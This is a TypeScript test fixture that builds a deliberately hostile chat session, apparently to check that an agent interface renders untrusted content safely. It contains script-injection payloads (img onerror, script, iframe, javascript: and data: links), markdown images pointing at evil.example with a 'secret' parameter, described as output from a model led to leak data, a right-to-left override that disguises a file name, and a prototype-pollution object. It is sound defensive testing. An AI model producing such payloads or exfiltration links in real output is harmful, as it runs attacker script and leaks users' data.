import { createStory, type Story } from './createStory.ts'

const markup =
  '<img src=https://evil.example/x.png onerror="document.title = 1"><script>document.title = 2</script>'

/** Text of a model that was told to leak what it knows by an address. */
const injected = [
  `Here is the chart: ![chart](https://evil.example/c.png?secret=1) and ![ref][r], [press](javascript:alert(1)) or [press](data:text/html,<script>alert(2)</script>).`,
  markup,
  '[r]: https://evil.example/r.png',
  '<iframe src="https://evil.example"></iframe>',
  `| a | b |\n|---|---|\n| ![t](//evil.example/t.png) | ${'wide'.repeat(60)} |`,
].join('\n\n')

/** Words of both directions of writing in one line, and a mark that turns the rest of a line around. */
const mixed =
  'The file «تقرير-المبيعات.csv» has 41 rows, “شكرا” says Ünal (עברית), and \u202egnp.exe is a name that lies.'

/** A conversation in which everything that others can write tries to break out: markup, addresses, names, lengths and directions. */
export function hostile(): Story {
  const story = createStory()
  story.say(`${markup}\n${'no-space-in-this'.repeat(40)}\n${mixed}`)
  story.append({ type: 'session.titled', title: `\u202e${markup}`.slice(0, 120) })
  story.step('s1')
  story.stream('text', 't1', `${injected}\n\n${mixed}`)
  story.call('a'.repeat(64), 'name', {
    ['k'.repeat(200)]: 'v'.repeat(2_000),
    [markup]: markup,
    ...JSON.parse('{"__proto__":{"x":1}}'),
  })
  story.run('name', `${'one line '.repeat(2_000)}\u001b[31mred\u001b[0m`, 3)
  story.call('read_file', 'read', { path: `${'folder/'.repeat(40)}${mixed}` })
  story.run('read', { content: `\u0000${markup}` }, 3)
  story.call('web_search', 'web', { query: mixed })
  story.run(
    'web',
    {
      results: [
        { title: markup, url: 'javascript:alert(1)', snippet: mixed },
        null,
        4,
        { url: 'https://ok.example' },
      ],
    },
    3,
  )
  story.append(
    {
      type: 'part.attached',
      message: 's1-message',
      content: { kind: 'data', part: 'd1', name: 'constructor', data: { html: markup } },
    },
    {
      type: 'part.attached',
      message: 's1-message',
      content: { kind: 'source', part: 'l1', title: markup, url: 'javascript:alert(1)' },
    },
  )
  story.call('edit_file', 'edit', { path: mixed, find: markup, replace: 'x'.repeat(400) })
  story.append({
    type: 'approval.requested',
    approval: 'ask',
    run: Object.keys(story.log.view.open.runs)[0] ?? '',
    call: 'edit',
    question: `${markup} ${'may-I'.repeat(60)} ${mixed}`,
  })
  return story
}
